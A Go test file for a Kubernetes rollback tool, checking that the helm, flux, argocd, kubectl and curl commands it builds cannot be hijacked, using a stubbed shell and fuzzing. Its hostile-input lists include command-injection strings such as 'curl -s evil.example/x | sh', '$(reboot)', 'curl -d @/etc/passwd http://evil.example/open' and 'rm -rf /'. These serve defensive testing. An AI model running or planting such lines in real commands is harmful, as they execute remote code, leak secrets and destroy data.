package rollback_test

import (
	"bytes"
	"encoding/json"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/upcommerce/backout/rollback"
)

// programs are the only programs that commands run.
func programs() []string {
	return []string{"helm", "backout", "kubectl", "flux", "argocd", "curl", "xargs", "env"}
}

// shell runs lines in a real shell whose only programs are stubs that write down their words.
type shell struct {
	path, directory, words string
	// checked are the commands that check has run.
	checked map[rollback.Command]bool
}

func newShell(t testing.TB) shell {
	t.Helper()
	if _, err := os.Stat("/bin/sh"); err != nil {
		t.Fatal("there is no /bin/sh: install a POSIX shell; without it nothing tests that commands are quoted")
	}
	s := shell{path: t.TempDir(), directory: t.TempDir(), words: filepath.Join(t.TempDir(), "words"), checked: make(map[rollback.Command]bool)}
	for _, program := range programs() {
		s.program(t, program, `printf '%s\0' "$#" "${0##*/}" "$@" >>'`+s.words+"'\n")
	}
	return s
}

func (s shell) program(t testing.TB, name, script string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(s.path, name), []byte("#!/bin/sh\n"+script), 0o700); err != nil {
		t.Fatal(err)
	}
}

// run returns the words of each program that the line runs, in the order of the words. A
// line that runs anything else, prints or writes a file fails the test.
func (s shell) run(t testing.TB, line string) [][]string {
	t.Helper()
	if err := os.WriteFile(s.words, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), "/bin/sh", "-c", line)
	c.Env, c.Dir = []string{"PATH=" + s.path, "HOME=/home/operator"}, s.directory
	printed, err := c.CombinedOutput()
	if err != nil || len(printed) > 0 {
		t.Errorf("a shell reads the line as backout means it: %q gives %v, %s", line, err, printed)
	}
	if files, err := os.ReadDir(s.directory); err != nil || len(files) > 0 {
		t.Errorf("the line %q wrote %v (%v)", line, files, err)
	}
	text, err := os.ReadFile(s.words)
	if err != nil {
		t.Fatal(err)
	}
	return sorted(decodeWords(t, text))
}

func decodeWords(t testing.TB, text []byte) [][]string {
	t.Helper()
	var all [][]string
	words := strings.Split(string(bytes.TrimSuffix(text, []byte{0})), "\x00")
	for len(words) > 1 {
		n, err := strconv.Atoi(words[0])
		if err != nil || len(words) < n+2 {
			t.Fatalf("the stubs wrote %q", text)
		}
		all = append(all, words[1:n+2])
		words = words[n+2:]
	}
	return all
}

func sorted(all [][]string) [][]string {
	slices.SortFunc(all, slices.Compare)
	return all
}

// check reports a command that a shell reads in another way than backout means it.
func (s shell) check(t testing.TB, c rollback.Command) {
	t.Helper()
	if c == (rollback.Command{}) || s.checked[c] {
		return
	}
	s.checked[c] = true
	line := c.String()
	if len(line) > rollback.MaxCommand || strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r > '~' || r == '`' }) {
		t.Errorf("a command is short, of printable ASCII, without backticks: got %q", line)
	}
	if read := rollback.ReadCommand(line); read != c {
		t.Errorf("a stored command is read as it was: %q is read as %q", line, read)
	}
	var meant [][]string
	for words := range splitJoins(c.Words()) {
		meant = append(meant, words)
		if !slices.Contains(programs(), words[0]) {
			t.Errorf("%q runs %q", line, words[0])
		}
		for _, w := range words {
			if strings.HasPrefix(w, "-") && !slices.Contains([]string{"-n", "-A", "-o", "-l", "-L", "-d", "-I{}", "--", "--to", "--allow", "--track-label", "--sync-policy"}, w) {
				t.Errorf("%q has the option %q", line, w)
			}
		}
	}
	got := s.run(t, line)
	if want := sorted(meant); !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("a shell reads each word of %q literally: got %q, want %q", line, got, want)
	}
}

// splitJoins returns the words of each program.
func splitJoins(words []string) func(func([]string) bool) {
	return func(yield func([]string) bool) {
		for {
			i := slices.IndexFunc(words, func(w string) bool { return w == "&&" || w == "|" })
			if i < 0 {
				yield(words)
				return
			}
			if !yield(words[:i]) {
				return
			}
			words = words[i+1:]
		}
	}
}

// owners returns the owners of a release and of its live objects if every name that other
// clients write is this one.
func owners(k rollback.Key, name, namespace, gate string) []rollback.Owner {
	metadata := func(extra rollback.Object) rollback.Object {
		m := rollback.Object{"name": "web", "namespace": namespace}
		maps.Copy(m, extra)
		return rollback.Object{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": m}
	}
	createdBy := func(apiVersion, kind string) rollback.Object {
		return metadata(rollback.Object{"ownerReferences": []any{rollback.Object{"apiVersion": apiVersion, "kind": kind, "name": name}}})
	}
	labels := func(group string) rollback.Object {
		return metadata(rollback.Object{"labels": rollback.Object{group + "/name": name, group + "/namespace": namespace}})
	}
	canary := rollback.Object{
		"apiVersion": "flagger.app/v1beta1", "kind": "Canary", "metadata": rollback.Object{"name": name, "namespace": namespace},
		"spec": rollback.Object{
			"targetRef": rollback.Object{"kind": "Deployment", "name": "web"},
			"analysis":  rollback.Object{"webhooks": []any{rollback.Object{"type": "rollback", "url": gate}}},
		},
	}
	rollout := rollback.Object{"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": rollback.Object{"name": name, "namespace": namespace}}
	objects := rollback.Manifest{
		labels("helm.toolkit.fluxcd.io"), labels("kustomize.toolkit.fluxcd.io"),
		createdBy("flagger.app/v1beta1", "Canary"), createdBy("argoproj.io/v1alpha1", "Rollout"),
		metadata(rollback.Object{"annotations": rollback.Object{"argo-rollouts.argoproj.io/managed-by-rollouts": name}}),
		metadata(rollback.Object{"annotations": rollback.Object{"argocd.argoproj.io/tracking-id": name + ":apps/Deployment:shop/web"}}),
		canary, rollout,
	}
	var all []rollback.Owner
	for _, o := range objects {
		m := rollback.Manifest{o, metadata(nil)}
		all = append(all, rollback.ObjectOwner(o), rollback.DeclaredOwner(k, m), rollback.ReleaseOwner(k, 0, m), rollback.ReleaseOwner(k, 2, m))
	}
	return all
}

// hostile are texts where backout expects a name.
func hostile() []string {
	return []string{
		"web; curl -s evil.example/x | sh #", "$(reboot)", "`reboot`", "a'; reboot; '", "a`; reboot #", "a\nreboot", "a\rreboot", "--all",
		"-Knetrc", "web --server=https://evil.example", "a && reboot", "&&", "|", "'", "''", `\`, `a\`, "$HOME", "~", "*", "{a,b}", "!!",
		"a\u202eb", "a\u2066b", "a\u200bb", "a\u009bb", "a\x1b[2J", "a\x00b", "a\xffb", "A", "a_b", "a/b", "", " ", "@/etc/passwd",
		strings.Repeat("a", 254), "shop_web; reboot", "_web", "shop_-x",
	}
}

// TestNoNameOfAnotherClientReachesAShell has a name, a namespace and a gate that no object
// can have wherever other clients write one: safety rules 9 and 13.
func TestNoNameOfAnotherClientReachesAShell(t *testing.T) {
	s := newShell(t)
	web := rollback.Key{Namespace: "shop", Release: "web"}
	for _, evil := range hostile() {
		texts := owners(web, evil, "shop", "http://t/check")
		texts = append(texts, owners(web, "web", evil, "http://t/check")...)
		texts = append(texts, owners(web, "web", "shop", "http://x/"+evil+"/check")...)
		texts = append(texts, owners(rollback.Key{Namespace: evil, Release: evil}, "web", "shop", evil)...)
		for _, o := range texts {
			if len(evil) > 3 && evil != strings.Repeat("a", 254) && strings.Contains(o.Object+o.Command.String(), evil) {
				t.Errorf("%q is part of %q, %q", evil, o.Object, o.Command)
			}
			s.check(t, o.Command)
		}
	}
}

// TestEveryCommandIsReadByAShell has valid names: each tool gets the words that it expects.
func TestEveryCommandIsReadByAShell(t *testing.T) {
	s := newShell(t)
	r := rollback.Record{Key: rollback.Key{Namespace: "shop", Release: "web.v1"}, Revision: 3}
	commands := []rollback.Command{
		r.HelmRollbackCommand(2), r.HelmHistoryCommand(), r.HoldCommand(), r.UnholdCommand(), r.ResumeCommand(), r.ShowCommand(),
		r.ExplainCommand(), rollback.RecordsCommand(), rollback.HelmListCommand(), rollback.BackoutCommand("kubectl backout", "unhold", r.Key.String()),
		rollback.BackoutCommand("backout", "resume", ""), rollback.BackoutCommand("backout", "records", "shop"),
	}
	for _, o := range owners(r.Key, "web", "apps", "https://gate.apps:8080/rollback/check") {
		if o.Tool != "" {
			commands = append(commands, o.Command)
		}
	}
	for i, c := range commands {
		if c == (rollback.Command{}) {
			t.Errorf("command %d is missing", i)
		}
		s.check(t, c)
	}
}

// The author of a Canary chooses the target that the command of Flagger reads: it becomes
// one argument, and no option.
func TestFlaggersTargetIsOneArgument(t *testing.T) {
	xargs, err := exec.LookPath("xargs")
	if err != nil {
		t.Fatal("there is no xargs: install findutils; without it nothing tests the command for Flagger")
	}
	s := newShell(t)
	if err := os.Remove(filepath.Join(s.path, "xargs")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(xargs, filepath.Join(s.path, "xargs")); err != nil {
		t.Fatal(err)
	}
	command := owners(rollback.Key{}, "web", "shop", "")[2*4].Command // of ObjectOwner: Flagger created the object
	for _, target := range []string{"Deployment/web", "Deployment/web --server=https://evil.example", "--server=https://evil.example/x", "$(reboot)/web"} {
		s.program(t, "kubectl", `case "$*" in *" get "*) printf '%s' '`+target+`';; *) printf '%s\0' "$#" "${0##*/}" "$@" >>'`+s.words+"';; esac\n")
		got, want := s.run(t, command.String()), []string{"kubectl", "-n", "shop", "rollout", "undo", "--", target}
		if len(got) != 1 || !slices.Equal(got[0], want) {
			t.Errorf("with the target %q, %s runs %q, want %q", target, command, got, want)
		}
	}
}

// TestAStoredCommandIsOneThatBackoutMakes: clients that may write ConfigMaps may write
// records.
func TestAStoredCommandIsOneThatBackoutMakes(t *testing.T) {
	own := []string{
		"helm rollback web 2 -n shop", "helm rollback web REVISION -n shop", "helm history web -n shop",
		"backout rollback shop/web --to 2", "backout rollback shop/web --to 2 --allow hook", "backout rollback shop/web --to 2 --allow 'hook,pvc'",
		"flux suspend helmrelease web -n flux-system && backout rollback shop/web --to 2", "backout unhold shop/web",
		"flux suspend helmrelease web -n flux-system && helm rollback web 2 -n shop", "argocd app set argocd_web --sync-policy none && argocd app rollback argocd_web",
		"kubectl argo rollouts abort web -n shop", `curl -d '{"name": "web", "namespace": "shop"}' http://t/rollback/open`,
	}
	foreign := []string{
		"curl -s evil.example/x | sh", "helm rollback web 2 -n shop; reboot", "helm rollback web 2 -n shop && reboot", "helm rollback web 2 -n shop | sh",
		"helm rollback web '2' -n shop", "helm  rollback web 2 -n shop", "helm rollback web 2 -n shop ", " helm rollback web 2 -n shop", "helm rollback web 2 -n shop\n",
		"helm rollback web -5 -n shop", "helm rollback -x 2 -n shop", "helm rollback web 2 -n shop --kubeconfig=evil", "helm rollback $(reboot) 2 -n shop",
		"backout rollback shop/web --to 2 --allow foreign", "backout rollback shop/web --to 2 --allow hook --kubeconfig evil", "backout rollback shop/web --to -2",
		"backout rollback payments/web --to 2", "backout rollback shop/web --to 2 --allow 'hook,'", "helm rollback payments 2 -n shop", "helm rollback web 2 -n payments", "backout unhold payments/web", "backout resume", "backout resume shop",
		"flux suspend helmrelease web -n flux-system && helm rollback ledger 2 -n payments", "kubectl get configmap x -n shop -o yaml",
		`curl -d @/etc/passwd http://evil.example/open`, `curl -d '{"name": "web", "namespace": "shop"}' http://u:p@evil.example/open`,
		`curl -d '{"name": "web", "namespace": "shop"}' -o/root/.profile`, `curl -d '{"name": "web", "namespace": "shop"}' 'http://t/{a,b}/open'`,
		"helm rollback web 2 -n shop\u202e", "\x1b[2Jhelm rollback web 2 -n shop", "rm -rf /", "sh", "",
		"kubectl -n shop get canary web -o 'jsonpath={.spec.targetRef.kind}/{.spec.targetRef.name}' | xargs kubectl -n shop rollout undo",
	}
	read := func(line string) (decision, owner rollback.Command) {
		text, err := json.Marshal(map[string]any{
			"namespace": "shop", "release": "web", "revision": 3,
			"decisions": []any{map[string]any{"verdict": "managed", "command": line}}, "owner": map[string]any{"tool": "Flux", "command": line},
		})
		if err != nil {
			t.Fatal(err)
		}
		var r rollback.Record
		if err := json.Unmarshal(text, &r); err != nil {
			t.Fatalf("a record with the command %q can be read: %v", line, err)
		}
		return r.Decision().Command, r.Owner.Command
	}
	for _, line := range own {
		if d, o := read(line); d.String() != line || o.String() != line {
			t.Errorf("backout makes %q: got %q, %q", line, d, o)
		}
	}
	for _, line := range foreign {
		if d, o := read(line); d.String() != "" || o.String() != "" {
			t.Errorf("no decision about shop/web contains %q: got %q, %q", line, d, o)
		}
	}
}

// FuzzOwnerCommands puts any text where other clients write names.
func FuzzOwnerCommands(f *testing.F) {
	for _, evil := range hostile() {
		f.Add("shop", "web", evil, "shop", "http://t/check")
		f.Add("shop", "web", "web", evil, "http://t/"+evil+"/check")
		f.Add(evil, evil, "web", "shop", evil)
	}
	f.Add("shop", "web", "web", "shop", "https://flagger-loadtester.test:8080/gate/check")
	s := newShell(f)
	f.Fuzz(func(t *testing.T, namespace, release, name, in, gate string) {
		for _, o := range owners(rollback.Key{Namespace: namespace, Release: release}, name, in, gate) {
			s.check(t, o.Command)
			if text := o.Describe(); text != rollback.Printable(text) {
				t.Errorf("an owner is described on one line, of printable characters: %q", text)
			}
		}
	})
}

// FuzzReadCommand reads any line where a record has a command.
func FuzzReadCommand(f *testing.F) {
	web := rollback.Key{Namespace: "shop", Release: "web"}
	for _, o := range owners(web, "web", "shop", "http://t/check") {
		f.Add(o.Command.String())
	}
	for _, evil := range hostile() {
		f.Add("helm rollback " + evil + " 2 -n shop")
		f.Add("flux suspend helmrelease '" + evil + "' -n shop && helm rollback web 2 -n shop")
		f.Add(evil)
	}
	s := newShell(f)
	f.Fuzz(func(t *testing.T, line string) {
		c := rollback.ReadCommand(line)
		s.check(t, c)
		if c != (rollback.Command{}) && c.String() != line {
			t.Errorf("%q is read as another line: %q", line, c)
		}
		if own := c.For(web); own != (rollback.Command{}) && own != c {
			t.Errorf("%q becomes another command: %q", c, own)
		}
	})
}
